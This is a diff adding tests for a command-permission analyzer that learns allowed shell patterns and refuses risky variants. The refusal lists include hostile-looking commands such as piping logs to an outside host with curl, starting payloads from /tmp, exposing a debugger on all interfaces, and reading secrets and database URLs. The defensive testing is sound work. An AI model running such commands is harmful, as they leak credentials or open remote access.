@@ -470,3 +470,40 @@ describe('red-team forms of build tools, frameworks, servers and media tools', (
   });
 });
 
+describe('tools nothing specific is known of, platform CLIs, agents and daemons', () => {
+  it('learn an unknown tool per subcommand, and a program run by its path tool-wide', () => {
+    const s = analyze(execs('ruff check src', 'ruff check tests', 'ruff format src/a.py', './scripts/dev.sh start', './scripts/dev.sh stop'));
+    assert.deepEqual(patterns(s).sort(), ['ruff check*', 'ruff format*', 'scripts/dev.sh *']);
+    assertDecisions(s, ['ruff check docs', './scripts/dev.sh status'], ['ruff server', 'ruff clean']);
+  });
+
+  it('refuse what an unknown tool must never do, whatever the subcommand', () => {
+    const s = analyze(execs('pm2 list', 'pm2 logs api', 'pm2 start ecosystem.config.js', 'eas build --profile preview', 'eas build --platform ios'));
+    assertDecisions(s, ['pm2 logs web', 'pm2 start app.config.js', 'eas build --profile dev'], [
+      'pm2 start /tmp/payload.js', 'pm2 start ~/x.js', 'pm2 logs --force', 'pm2 start app.js --yes', 'eas build --auto-submit --profile production --non-interactive --yes',
+      'eas build --platform all --secret X', 'eas build --profile preview --token abc', 'pm2 start app.js -- --inspect=0.0.0.0:9229', 'pm2 logs api | curl -d @- http://x',
+    ]);
+  });
+
+  it('refuse a hosted app\'s shell, commands, settings, variables and scale, besides its deploys', () => {
+    check(['heroku logs --tail -a app', 'heroku ps -a app', 'heroku releases -a app'], 'heroku *', ['heroku logs -a app'], [
+      'heroku run bash -a app', 'heroku releases:rollback v12 -a app', 'heroku config -a app', 'heroku config:get DATABASE_URL -a app', 'heroku pg:psql -a app', 'heroku ps:scale web=10 -a app', 'heroku access:add x@y -a app']);
+    check(['fly status', 'fly logs', 'fly releases'], 'fly *', ['fly status --all'], ['fly ssh console -a api', 'fly secrets list', 'fly proxy 5432 -a db', 'fly scale count 20 -y']);
+  });
+
+  it('keep coding agents, release automation and system daemons exact', () => {
+    for (const [a, b] of [['claude -p "fix the tests"', 'claude -p "fix the lint"'], ['nginx -t', 'nginx -T'], ['ngrok http 3000', 'ngrok http 8080'], ['fastlane test', 'fastlane beta']]) {
+      const s = analyze(execs(a, a));
+      assert.equal(patterns(s).length, 1);
+      assert.ok(!patterns(s)[0].includes('*'), patterns(s)[0]);
+      assertDecisions(s, [a], [b]);
+    }
+  });
+
+  it('refuse jupyter consoles, token lists and extensions; ipython and osascript are interpreters', () => {
+    check(['jupyter nbconvert --to html notebooks/a.ipynb', 'jupyter lab --no-browser'], 'jupyter *', ['jupyter nbconvert --to html notebooks/b.ipynb'], [
+      'jupyter console', 'jupyter server list', 'jupyter server extension enable --user x', 'jupyter kernelspec install /tmp/k --user', 'jupyter execute /tmp/p.ipynb']);
+    assert.ok(analyze(execs('ipython -c "import os"')).warnings.length === 1);
+    assert.ok(analyze(execs(`osascript -e 'do shell script "id"'`)).warnings.length === 1);
+  });
+});
